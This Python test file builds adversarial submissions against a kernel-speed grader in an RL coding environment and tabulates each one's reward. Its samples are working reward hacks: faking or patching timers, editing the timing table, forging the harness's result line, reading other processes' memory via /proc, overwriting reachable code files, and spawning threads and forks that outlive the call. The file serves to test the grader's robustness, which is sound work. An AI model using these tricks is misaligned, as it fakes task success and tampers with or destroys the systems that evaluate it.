"""Adversarial submissions for ``coding.kernel`` (issue 30 §1) and a printable table of what each scores.

    python tests/kernel_attacks.py softmax 1      # op, difficulty: one row per submission

It runs this checkout's k3post; with ``PYTHONPATH`` set, the k3post that names (the "before" table of
docs/decisions.md ran the same file against a copy of the tree before the redesign).

Every attack is a complete ``kernel.py`` (plus ``kernel.c`` where it builds on the expert) that computes the
right answer with the plain reference (so it is correct but slow) and uses its trick to *look* fast: when the
trick works the speed score rises above 0, when it does not the submission is the reference and scores 0 (or
it is caught and scores 0). Two controls bracket them: ``honest_slow`` (the reference: must score 0) and
``honest_fast`` (the shipped expert: must score > 0). The tricks target the old harness (one process that
imported the agent's code next to the timer, the timing table, the nonce, the hidden inputs and the expert)
and the new one (a child per implementation, timed by its parent on the child's CPU clock); the table before
and after the redesign is in docs/decisions.md. `tests/test_kernel_attacks.py` runs them all.
"""

from __future__ import annotations

import os
import sys
from pathlib import Path

if __name__ == "__main__" and not os.environ.get("PYTHONPATH"):  # this checkout's k3post, not an installed one
    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from k3post.envs.families.kernel.family import KERNEL, expert_files, verify_files  # noqa: E402
from k3post.envs.families.kernel.ops import OPS, KernelOp  # noqa: E402

CONTROLS = ("honest_slow", "honest_fast")


def _ref(op: KernelOp) -> str:
    """The reference, renamed ``_ref``: every attack's honest (slow) fallback."""
    return op.reference.replace(f"def {op.name}(", "def _ref(")


def attacks(op: KernelOp, tc: str) -> dict[str, dict[str, str]]:
    """name -> files of every submission (controls first)."""
    f, ref = op.name, _ref(op)
    fast = expert_files(op, tc)
    head = f"import array\nimport gc\nimport os\nimport sys\n{ref}\n\n"

    def py(body: str) -> dict[str, str]:
        return {"kernel.py": head + body}

    forge_outputs = (
        "def _b64(v):\n    import base64\n    return base64.b64encode(array.array(_tc, v).tobytes()).decode()\n\n\n"
        "def _dec(s):\n    import base64\n    a = array.array(_tc)\n    a.frombytes(base64.b64decode(s))\n    return a\n\n\n"
        "def _forge(cfg, emit):\n"
        "    outs = [_b64(_ref(*[_dec(s) for s in c['args']], *c['dims'])) for c in cfg['cases']]\n"
        "    timed = [_b64(_ref(*[_dec(s) for s in r], *cfg['timing_dims'])) for r in cfg['rounds']]\n"
        "    n = len(cfg['rounds'])\n"
        "    emit({'outputs': outs, 'timed': timed, 'times': {'ref': [10**6] * n, 'expert': [10**4] * n,\n"
        "          'agent': [10] * n}, 'bandwidth': 1.0, 'flop_rate': 1.0})\n"
        "    os._exit(0)\n\n\n"
    )
    return {
        "honest_slow": {"kernel.py": op.reference},
        "honest_fast": fast,
        # the result is a generator: converting it (the real work) happens wherever the harness materialises it
        "lazy_iterable": py(f"def _gen(a):\n    yield from _ref(*a)\n\n\ndef {f}(*a):\n    return _gen(a)\n"),
        # an array.array subclass whose tobytes() does the work
        "array_subclass": py(
            f"class _Lazy(array.array):\n    def tobytes(self):\n"
            f"        return array.array(self.typecode, _ref(*self.args)).tobytes()\n\n\n"
            f"def {f}(*a):\n    dims = dict(zip({op.dims!r}, a[{len(op.args)}:]))\n"
            f"    out = _Lazy(a[0].typecode, bytes(a[0].itemsize * eval({op.out_expr!r}, {{}}, dims)))\n"
            f"    out.args = a\n    return out\n"),
        # a plain list of objects whose __float__ does the work (on conversion)
        "lazy_elements": py(
            "class _Cell:\n    def __init__(self, box, i):\n        self.box, self.i = box, i\n\n"
            "    def __float__(self):\n        if 'v' not in self.box:\n"
            "            self.box['v'] = _ref(*self.box['a'])\n        return float(self.box['v'][self.i])\n\n\n"
            f"def _cells(a):\n    dims = dict(zip({op.dims!r}, a[{len(op.args)}:]))\n    box = {{'a': a}}\n"
            f"    return [_Cell(box, i) for i in range(eval({op.out_expr!r}, {{}}, dims))]\n\n\n"
            f"def {f}(*a):\n    return _cells(a)\n"),
        # a subclass of list (of such objects)
        "list_subclass": py(
            "class _Cell:\n    def __init__(self, box, i):\n        self.box, self.i = box, i\n\n"
            "    def __float__(self):\n        if 'v' not in self.box:\n"
            "            self.box['v'] = _ref(*self.box['a'])\n        return float(self.box['v'][self.i])\n\n\n"
            f"def _cells(a):\n    dims = dict(zip({op.dims!r}, a[{len(op.args)}:]))\n    box = {{'a': a}}\n"
            f"    return [_Cell(box, i) for i in range(eval({op.out_expr!r}, {{}}, dims))]\n\n\n"
            f"class _L(list):\n    pass\n\n\ndef {f}(*a):\n    return _L(_cells(a))\n"),
        # call the expert the harness loaded into its own process
        "calls_harness_expert": py(
            f"def _find():\n    m = sys.modules.get('__main__')\n    e = getattr(m, 'expert', None)\n"
            f"    if callable(e):\n        return e\n"
            f"    for o in gc.get_objects():\n"
            f"        if callable(o) and getattr(o, '__name__', '') == {f!r} and getattr(getattr(o, '__code__', None), 'co_filename', '') == '<expert>':\n"
            f"            return o\n    return _ref\n\n\n"
            f"def {f}(*a):\n    return _find()(*a)\n"),
        # the harness's saved timers (module globals): make the clock read at the end of our call say "1 us later"
        "scales_saved_timer": py(
            "def _once(name, value):\n    m = sys.modules['__main__']\n    orig = getattr(m, name)\n\n"
            "    def fake():\n        setattr(m, name, orig)\n        return value\n    setattr(m, name, fake)\n\n\n"
            f"def {f}(*a):\n    m = sys.modules.get('__main__')\n"
            "    if not (callable(getattr(m, '_pc', None)) and callable(getattr(m, '_cpu', None))):\n        return _ref(*a)\n"
            "    s, c = m._pc(), m._cpu()\n    out = _ref(*a)\n"
            "    _once('_pc', s + 1000)\n    _once('_cpu', c + 1000)\n    return out\n"),
        # scale the time module's clocks (the harness's own saved references are not affected)
        "patches_time_module": py(
            "import time\n_pc = time.perf_counter_ns\n_t0 = _pc()\n"
            "time.perf_counter_ns = lambda: _t0 + (_pc() - _t0) // 1000\n"
            "time.process_time_ns = lambda: 0\n"
            f"def {f}(*a):\n    return _ref(*a)\n"),
        # divide every time already recorded for us in the harness's table
        "edits_timing_table": py(
            f"def {f}(*a):\n    t = getattr(sys.modules.get('__main__'), 'times', None)\n"
            "    if isinstance(t, dict) and isinstance(t.get('agent'), list):\n        t['agent'][:] = [1] * len(t['agent'])\n"
            "    return _ref(*a)\n"),
        # precompute the timed rounds' outputs at import (untimed) from the inputs visible in the harness
        "precomputes_visible_inputs": py(
            "_memo = {}\n_m = sys.modules.get('__main__')\n"
            "for _args in list(getattr(_m, 'rounds', []) or []):\n"
            "    _memo[_args[0].tobytes()] = array.array(_args[0].typecode, _ref(*_args, *_m.cfg['timing_dims']))\n\n\n"
            f"def {f}(*a):\n    hit = _memo.get(a[0].tobytes())\n    return hit if hit is not None else _ref(*a)\n"),
        # every input and output seen so far, in memory and in files: a repeated input is answered from the cache
        "caches_across_calls": py(
            "import hashlib\n_memo = {}\n\n\n"
            f"def {f}(*a):\n    key = hashlib.sha1(b''.join(x.tobytes() if hasattr(x, 'tobytes') else repr(x).encode() for x in a)).hexdigest()\n"
            "    if key in _memo:\n        return _memo[key]\n"
            "    path = os.path.join('/tmp', 'k3cache-' + key)\n"
            "    if os.path.exists(path):\n        out = array.array(a[0].typecode)\n"
            "        with open(path, 'rb') as fh:\n            out.frombytes(fh.read())\n        return out\n"
            "    out = array.array(a[0].typecode, _ref(*a))\n    _memo[key] = out\n"
            "    try:\n        with open(path, 'wb') as fh:\n            fh.write(out.tobytes())\n    except OSError:\n        pass\n"
            "    return out\n"),
        # forge the harness's result line with its nonce: made-up times, outputs computed from the visible inputs
        "forges_result_line": py(
            f"_tc = {tc!r}\n" + forge_outputs +
            "_m = sys.modules.get('__main__')\n"
            "if isinstance(getattr(_m, 'nonce', None), str) and isinstance(getattr(_m, 'cfg', None), dict):\n"
            "    _forge(_m.cfg, _m.emit)\n\n\n"
            f"def {f}(*a):\n    return _ref(*a)\n"),
        # read any other process's memory (the parent's first) for the nonce and the inputs, then forge
        "reads_parent_memory": py(
            f"_tc = {tc!r}\n" + forge_outputs +
            "def _scan():\n    import json, re\n    pids = [os.getppid()] + [int(p) for p in os.listdir('/proc') if p.isdigit()]\n"
            "    for pid in pids:\n        if pid in (0, os.getpid()):\n            continue\n"
            "        try:\n            maps = open(f'/proc/{pid}/maps').read().splitlines()\n"
            "            mem = open(f'/proc/{pid}/mem', 'rb', 0)\n        except OSError:\n            continue\n"
            "        for line in maps:\n            lo, hi = (int(x, 16) for x in line.split()[0].split('-'))\n"
            "            if 'rw' not in line.split()[1] or hi - lo > 1 << 28:\n                continue\n"
            "            try:\n                mem.seek(lo)\n                data = mem.read(hi - lo)\n            except (OSError, ValueError, OverflowError):\n                continue\n"
            "            i = data.find(b'{\"typecode\"')\n"
            "            while i >= 0:\n                j = data.find(b'\"nonce\": \"', i)\n"
            "                if j < 0:\n                    break\n"
            "                try:\n                    cfg = json.JSONDecoder().raw_decode(data[i:j + 60].decode('latin-1'))[0]\n"
            "                    return cfg\n                except ValueError:\n                    i = data.find(b'{\"typecode\"', i + 1)\n"
            "    return None\n\n\n"
            "_cfg = _scan()\nif _cfg is not None:\n"
            "    _n = _cfg['nonce']\n    _forge(_cfg, lambda o: (sys.__stdout__.write(_n + ' ' + __import__('json').dumps(o) + '\\n'), sys.__stdout__.flush()))\n\n\n"
            f"def {f}(*a):\n    return _ref(*a)\n"),
        # overwrite any other kernel / reference / library file reachable (the expert's, the harness's)
        "writes_files": py(
            "import glob\n_slow = open(__file__).read()\n"
            "for _p in glob.glob('/proc/*/cwd/*.py') + glob.glob('/tmp/**/*.py', recursive=True) + glob.glob('/tmp/**/*.so', recursive=True):\n"
            "    if os.path.realpath(_p) == os.path.realpath(__file__):\n        continue\n"
            "    try:\n        with open(_p, 'w') as _fh:\n            _fh.write(_slow)\n    except OSError:\n        pass\n\n\n"
            f"def {f}(*a):\n    return _ref(*a)\n"),
        # a thread that outlives the call (started at import, then from within the call)
        "thread_outlives_call": py(
            "import threading\n_pool = []\n\n\ndef _spin():\n    x = 0\n    for i in range(10**8):\n        x += i\n\n\n"
            "try:\n    threading.Thread(target=_spin, daemon=True).start()\nexcept RuntimeError:\n    pass\n\n\n"
            f"def {f}(*a):\n    try:\n        threading.Thread(target=_spin, daemon=True).start()\n    except RuntimeError:\n        pass\n"
            "    return _ref(*a)\n"),
        # a forked worker that outlives the call and could compute off the clock
        "forks_worker": py(
            "def _fork():\n    try:\n        if os.fork() == 0:\n            sum(range(10**7))\n            os._exit(0)\n    except OSError:\n        pass\n\n\n"
            f"_fork()\n\n\ndef {f}(*a):\n    _fork()\n    return _ref(*a)\n"),
        # the expert's speed, computed in place in the input buffer
        "mutates_inputs": {**fast, "kernel.py": fast["kernel.py"].replace("    return out\n", f"    {op.args[0]}[0] = 0.0\n    return out\n")},
    }


def run(op_name: str, difficulty: int = 1) -> list[tuple[str, float, str]]:
    """(name, reward, diagnostics) of every submission on the first task of ``op_name`` at ``difficulty``."""
    task = next(t for t in KERNEL.generate(40, seed=0, difficulty=difficulty) if t.metadata["op"] == op_name)
    op, tc = OPS[op_name], task.metadata["typecode"]
    rows = []
    for name, files in attacks(op, tc).items():
        v = verify_files(task, files)
        rows.append((name, v.reward, v.diagnostics.replace("\n", " ")[:110]))
    return rows


def table(rows: list[tuple[str, float, str]]) -> str:
    """A Markdown table of `run`'s rows."""
    lines = ["| submission | reward | verdict |", "|---|---|---|"]
    lines += [f"| {n} | {r:.2f} | {d.replace('|', '/')} |" for n, r, d in rows]
    return "\n".join(lines)


def main(argv: list[str]) -> int:
    if not argv or argv[0] not in OPS or len(argv) > 2:
        print(f"usage: python tests/kernel_attacks.py OP [DIFFICULTY]   (OP one of {', '.join(sorted(OPS))})",
              file=sys.stderr)
        return 2
    print(table(run(argv[0], int(argv[1]) if len(argv) > 1 else 1)))
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))

